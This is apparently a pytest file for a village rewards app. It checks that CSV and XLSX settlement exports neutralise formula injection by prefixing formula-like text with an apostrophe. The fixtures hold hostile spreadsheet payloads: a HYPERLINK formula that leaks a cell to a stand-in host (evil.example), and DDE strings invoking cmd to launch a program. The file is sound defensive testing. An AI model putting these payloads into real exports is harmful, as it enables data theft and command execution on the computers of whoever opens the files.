"""Spreadsheet exports never carry a live formula: text that a spreadsheet would evaluate
(a reward or a villager named `=HYPERLINK(...)`) is written as text with a leading
apostrophe, in the CSV and in the XLSX, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from points.spreadsheets import FORMULA_STARTS, append_row, cell_value, csv_bytes
from tests.factories import (
    World,
    add_household,
    add_reward,
    fund,
    install_default_catalog,
    order,
    scan,
)
from tests.support.clock import frozen, local

API = "/api/v1"
LINK = '=HYPERLINK("http://evil.example/?"&A3,"点击领取")'
HOUSEHOLD = "@SUM(1+1)*cmd|' /C calc'!A0"
VILLAGER = "-2+3+cmd|' /C calc'!A0"
REWARD_PLUS = "+1+1 香皂"


@pytest.fixture()
def poisoned_month(app: Flask, client: FlaskClient, world: World) -> dict[str, Any]:
    """A May 2026 redemption at shop A by a villager and household named like formulas, of
    rewards named like formulas."""
    install_default_catalog(app, world.township_1)
    evil = add_household(app, world.village_a, HOUSEHOLD, VILLAGER, openid="openid-evil")
    fund(app, evil["household"], 500, at=local(2026, 4, 2))
    link = add_reward(app, world.shop_a, LINK, 5, 10)
    plus = add_reward(app, world.shop_a, REWARD_PLUS, 7, 10)
    with frozen(local(2026, 5, 3)):
        placed = order(client, world.headers(evil["user"]), world.shop_a, [(link, 1), (plus, 2)])
        assert placed.status_code == 201, placed.get_json()
    with frozen(local(2026, 5, 3, 15)):
        done = scan(client, world.headers("clerk_a"), placed.get_json()["pickup_token"])
        assert done.status_code == 200, done.get_json()
    return {"redemption": done.get_json()["id"], "points": 5 + 2 * 7}


def settlement(client: FlaskClient, world: World, fmt: str) -> Any:
    response = client.get(
        f"{API}/shops/{world.shop_a}/settlements?month=2026-05&format={fmt}",
        headers=world.headers("tadmin1"),
    )
    assert response.status_code == 200, response.data[:300]
    return response


def test_settlement_csv_quotes_formula_text_and_keeps_numbers(
    client: FlaskClient, world: World, poisoned_month: dict[str, Any]
) -> None:
    text = settlement(client, world, "csv").data.decode("utf-8-sig")
    (row, total) = list(csv.DictReader(io.StringIO(text)))
    assert row["户"] == "'" + HOUSEHOLD
    assert row["兑换人"] == "'" + VILLAGER
    assert row["商品明细"].startswith("'" + LINK)  # the cell, not each name inside it
    assert int(row["兑换单号"]) == poisoned_month["redemption"]
    assert int(row["实扣积分"]) == poisoned_month["points"]
    assert total["兑换单号"] == "合计" and int(total["实扣积分"]) == poisoned_month["points"]
    for line in csv.reader(io.StringIO(text)):
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_settlement_xlsx_writes_formula_text_as_text(
    client: FlaskClient, world: World, poisoned_month: dict[str, Any]
) -> None:
    book = load_workbook(io.BytesIO(settlement(client, world, "xlsx").data))
    detail, summary = book["兑换明细"], book["商品汇总"]
    household, villager, items = detail["E3"], detail["F3"], detail["G3"]
    for cell, name in ((household, HOUSEHOLD), (villager, VILLAGER)):
        assert cell.data_type == "s"
        assert cell.value == "'" + name
    assert items.data_type == "s" and items.value.startswith("'" + LINK)
    names = {row[1].value: row[1].data_type for row in summary.iter_rows(min_row=2)}
    assert names["'" + LINK] == "s"
    assert names["'" + REWARD_PLUS] == "s"
    # Numbers stay numbers the sheet can add up.
    assert detail["A3"].data_type == "n" and detail["A3"].value == poisoned_month["redemption"]
    assert detail["J3"].data_type == "n" and detail["J3"].value == poisoned_month["points"]
    for sheet in (detail, summary):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_in_both_writers(start: str) -> None:
    text = f"{start}1+1"
    assert cell_value(text) == "'" + text
    assert csv_bytes([[text]]).decode("utf-8-sig").strip('"\r\n') == "'" + text
    sheet = Workbook().active
    assert sheet is not None
    (cell,) = append_row(sheet, [text])
    assert (cell.value, cell.data_type) == ("'" + text, "s")


def test_numbers_dates_and_plain_text_are_left_alone() -> None:
    row = [-5, -2.5, 0, "合计", "张三", "1+1", None, "a=b"]
    assert [cell_value(value) for value in row] == row
    assert csv_bytes([row]).decode("utf-8-sig") == "-5,-2.5,0,合计,张三,1+1,,a=b\r\n"
    sheet = Workbook().active
    assert sheet is not None
    cells = append_row(sheet, row)
    assert [c.data_type for c in cells[:3]] == ["n", "n", "n"]
    assert cells[0].value == -5
